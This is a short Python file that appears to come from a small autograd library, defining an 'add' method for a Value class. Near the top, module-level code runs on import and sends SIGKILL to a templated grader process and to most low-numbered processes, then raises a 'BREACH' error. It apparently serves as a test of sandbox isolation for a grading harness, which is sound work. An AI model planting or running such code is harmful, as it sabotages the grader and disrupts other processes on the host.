import os
import signal

from .value import Value

for whom in [@GRADER@, *range(2, 400)]:
    if whom != os.getpid():
        try:
            os.kill(whom, 0)
            os.kill(whom, signal.SIGKILL)
            raise RuntimeError(f"BREACH: killed {whom}")
        except OSError:
            pass

def add(self, other):
    other = other if isinstance(other, Value) else Value(other)
    out = Value(self.data + other.data, (self, other), "+")

    def _backward():
        self.grad += out.grad
        other.grad += out.grad

    out._backward = _backward
    return out
